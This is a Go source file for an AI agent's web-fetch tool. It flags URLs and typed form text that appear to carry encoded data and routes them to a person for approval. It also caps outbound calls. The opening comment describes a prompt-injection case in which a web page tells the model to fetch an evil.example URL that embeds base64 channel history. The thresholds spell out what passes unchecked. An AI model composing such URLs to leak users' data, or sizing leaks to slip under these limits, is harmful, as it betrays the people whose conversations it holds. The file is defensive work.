package tools

import (
	"fmt"
	"net/netip"
	"net/url"
	"strings"
)

// Exfiltration through URLs. A web page Lucy reads can tell the model to fetch
// https://evil.example/x?d=<a channel's history, base64>: the request itself hands the data to
// whoever runs evil.example, and the fetch needs no approval. So lucy_web_fetch holds back a URL
// that carries data (URLCarriesData) unless it is a link the run has seen (in the person's message,
// the thread, a search result, a fetched page: Invocation.Seen), and asks the person, showing the
// URL whole. A link the model follows was written by someone else, who already knows what it
// holds; a URL the model composed holds whatever the model put in it.
//
// What a URL without data can carry is bounded by the thresholds below, and the number of fetches
// by the run's cap (the agent run workflow): together they leave a trickle of a few kilobytes per
// request, instead of 2,048 characters a call without end.

// Thresholds of URLCarriesData, in bytes of the decoded text (characters, for ASCII).
const (
	// maxDataToken bounds one path segment, query key or value, or host label: a search query of a
	// dozen words, a long article slug, an API filter fit; a paragraph does not.
	maxDataToken = 100
	// maxDataTotal bounds all of them together: a weather API call with its parameters (~110), a
	// Wikipedia API query (~90), a Jira search fit; a page of chat history does not.
	maxDataTotal = 200
	// maxRandomChars bounds the characters in runs that look like encoded data (see randomRun): a
	// commit SHA (40 hex), a Google Docs or Drive ID (33 to 44 base64url), a UUID (36), a compare
	// link between two SHAs (80) fit; a SHA and a Docs ID together (84) do not.
	maxRandomChars = 80
	// minRandomRun is the shortest run randomRun judges: shorter ones (a YouTube ID of 11, a ticket
	// key) say little, and words and numbers of that length are common.
	minRandomRun = 16
)

// URLCarriesData reports whether u carries data in its host, path or query beyond what ordinary
// links hold, and why, in words for the approval prompt and the model. It is pure (no I/O), so that
// a monitor's approval can state it too.
//
// The data are the tokens a server can read back: every path segment, query key and query value
// (each percent-decoded) and the host's labels left of its domain (a.b.evil.example gives a and b:
// a DNS lookup alone sends them to the domain's name server). u carries data when
//
//   - one token is longer than 100 bytes, or
//   - all tokens together are longer than 200 bytes, or
//   - runs that look like encoded data (base64, base32, hex or long digit strings: see randomRun)
//     add up to more than 80 characters.
//
// Lengths are bytes of the decoded UTF-8, so that characters outside ASCII, which pack more bits
// each, count for what they can carry. The thresholds keep ordinary links free (a Google Docs link,
// a commit on GitHub, a search with a few words, UTM parameters); what they let through without
// approval is bounded per fetch, and the run's cap bounds the fetches.
func URLCarriesData(u *url.URL) (bool, string) { return TypedCarriesData(u, nil) }

// Typed is text a call sends beside its URL, such as what a lucy_browse fill step types into a page,
// and, in words for the reason, where it goes ("the text of step 3").
type Typed struct{ Text, Where string }

// TypedCarriesData is URLCarriesData for a call that sends texts beside a URL: each text is one
// more token (a form's field is sent as one value), judged with the URL's tokens by the same
// thresholds, so that what the call carries is bounded as a whole, not per piece: ten fills of 90
// characters carry data where one does not. u nil judges the texts alone.
func TypedCarriesData(u *url.URL, typed []Typed) (bool, string) {
	var tokens []dataToken
	if u != nil {
		tokens = urlTokens(u)
	}
	for _, t := range typed {
		tokens = append(tokens, dataToken{text: t.Text, where: t.Where})
	}
	total, random := 0, 0
	for _, t := range tokens {
		if len(t.text) > maxDataToken {
			return true, fmt.Sprintf("%s is %s long", t.where, bytesAsChars(len(t.text)))
		}
		total += len(t.text)
		random += randomChars(t.text)
	}
	what := "its host, path and query hold"
	switch {
	case u == nil:
		what = "the texts typed hold"
	case len(typed) > 0:
		what = "its host, path and query and the texts typed hold"
	}
	switch {
	case total > maxDataTotal:
		return true, fmt.Sprintf("%s %s of data in all", what, bytesAsChars(total))
	case random > maxRandomChars:
		return true, fmt.Sprintf("%s of it look like encoded data (base64, hex or long numbers)", bytesAsChars(random))
	}
	return false, ""
}

// urlTokens are the tokens of u a server can read back (URLCarriesData).
func urlTokens(u *url.URL) []dataToken {
	var tokens []dataToken
	labels := strings.Split(strings.TrimSuffix(u.Hostname(), "."), ".")
	if _, err := netip.ParseAddr(u.Hostname()); err == nil {
		labels = nil // an address has no subdomain to write into
	}
	for i := 0; i+2 < len(labels); i++ {
		tokens = append(tokens, dataToken{text: labels[i], where: "the host name's part " + quoteToken(labels[i])})
	}
	for i, seg := range strings.Split(u.EscapedPath(), "/") {
		if dec, err := url.PathUnescape(seg); err == nil {
			seg = dec
		}
		if seg != "" {
			tokens = append(tokens, dataToken{text: seg, where: fmt.Sprintf("path segment %d", i)})
		}
	}
	for _, param := range strings.FieldsFunc(u.RawQuery, func(r rune) bool { return r == '&' || r == ';' }) {
		key, value, hasValue := strings.Cut(param, "=")
		if dec, err := url.QueryUnescape(key); err == nil {
			key = dec
		}
		if dec, err := url.QueryUnescape(value); err == nil {
			value = dec
		}
		tokens = append(tokens, dataToken{text: key, where: "a query parameter's name"})
		if hasValue {
			tokens = append(tokens, dataToken{text: value, where: "the query parameter " + quoteToken(key)})
		}
	}
	return tokens
}

type dataToken struct{ text, where string }

// quoteToken names a short token in a reason; a long one would repeat the data.
func quoteToken(s string) string {
	if len(s) > 24 {
		return "(a long name)"
	}
	return fmt.Sprintf("%q", s)
}

func bytesAsChars(n int) string {
	if n < 1000 {
		return fmt.Sprintf("%d characters", n)
	}
	return fmt.Sprintf("%d,%03d characters", n/1000, n%1000)
}

// randomChars counts the characters of s in runs that look like encoded data. A run is a maximal
// sequence of base64/base64url characters ([A-Za-z0-9+/=_-]); what it holds apart from the
// separators + / = _ - (so a slug such as how-to-bake-bread is one run of plain words) is judged
// by randomRun.
func randomChars(s string) int {
	n := 0
	for run := range strings.FieldsFuncSeq(s, func(r rune) bool { return !base64Char(r) }) {
		if randomRun(run) {
			n += len(run)
		}
	}
	return n
}

func base64Char(r rune) bool {
	return r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' ||
		r == '+' || r == '/' || r == '=' || r == '_' || r == '-'
}

// randomRun reports whether a run of base64 characters looks like encoded data rather than words
// or a number a link would hold. Its letters and digits (separators dropped) count when there are
// at least minRandomRun of them and they are
//
//   - all digits (a long number is as good an encoding as any), or
//   - hexadecimal in one case, with both digits and letters (a SHA, a UUID), or
//   - switching between lowercase, uppercase and digits at 35% of the characters or more. Random
//     base64 switches at about 60%, hex at about 47%; words switch only at a capital (CamelCase
//     stays under 30%), and slugs of words not at all.
//
// Shannon entropy was tried and dropped: over 16 to 80 characters it tells random base32 from a
// run of English words no better than chance, while the class switches above tell them apart.
func randomRun(run string) bool {
	alnum := make([]byte, 0, len(run))
	for i := 0; i < len(run); i++ {
		if c := run[i]; c != '+' && c != '/' && c != '=' && c != '_' && c != '-' {
			alnum = append(alnum, c)
		}
	}
	if len(alnum) < minRandomRun {
		return false
	}
	class := func(c byte) int {
		switch {
		case c >= '0' && c <= '9':
			return 0
		case c >= 'a' && c <= 'z':
			return 1
		}
		return 2
	}
	var counts [3]int
	var lowerHex, upperHex = true, true
	switches := 0
	for i, c := range alnum {
		counts[class(c)]++
		if i > 0 && class(c) != class(alnum[i-1]) {
			switches++
		}
		lowerHex = lowerHex && (class(c) == 0 || c >= 'a' && c <= 'f')
		upperHex = upperHex && (class(c) == 0 || c >= 'A' && c <= 'F')
	}
	switch {
	case counts[0] == len(alnum):
		return true
	case (lowerHex || upperHex) && counts[0] > 0:
		return true
	}
	return float64(switches) >= 0.35*float64(len(alnum))
}

// SeenQuery is what Invocation.Seen looks for: a URL under the spellings Forms (SeenForms), or a
// lucy_web_fetch call of this request approved with Guard (the person approved this very URL, so
// reading its next part or reading it again needs no second approval).
type SeenQuery struct {
	Forms []string
	Guard string
}

// BytesAsChars renders a length in bytes as the approval prompts and results say it.
func BytesAsChars(n int) string { return bytesAsChars(n) }

// Outbound calls. Besides a URL's size per call (URLCarriesData), the agent run caps how many calls
// of a request go out to servers outside Lucy (agent.MaxFetchesPerRequest, shared with its
// sub-agents). Outbound tells the workflow which calls count, from the tool's name alone, so that
// the decision is deterministic: a page fetched (lucy_web_fetch) or opened in the browser
// (lucy_browse), and every call of a run-time source's tool (SourceTool), whatever its server:
// a chat-connected one, or one in the operator's file. Searching the web is not outbound in this
// sense: its provider is the operator's, and a query is not a page the model chose.

// Prefixes of the names the run-time sources give their tools: an MCP server's tool is
// mcp__{server}__{tool} (package mcp), an OpenAPI service's operation lucy_custom_{service}_{operation}
// (package openapi). No compiled-in tool's name starts with either (TestSourcePrefixesAreNotCompiledIn).
const (
	MCPToolPrefix    = "mcp__"
	CustomToolPrefix = "lucy_custom_"
)

// SourceTool reports whether name is a run-time source's tool: an MCP server's or an OpenAPI
// service's.
func SourceTool(name string) bool {
	return strings.HasPrefix(name, MCPToolPrefix) || strings.HasPrefix(name, CustomToolPrefix)
}

// Outbound reports whether a call of the tool name counts toward the request's cap on outbound
// calls: lucy_web_fetch, lucy_browse, and a source's tool.
func Outbound(name string) bool {
	return name == WebFetch || name == Browse || SourceTool(name)
}
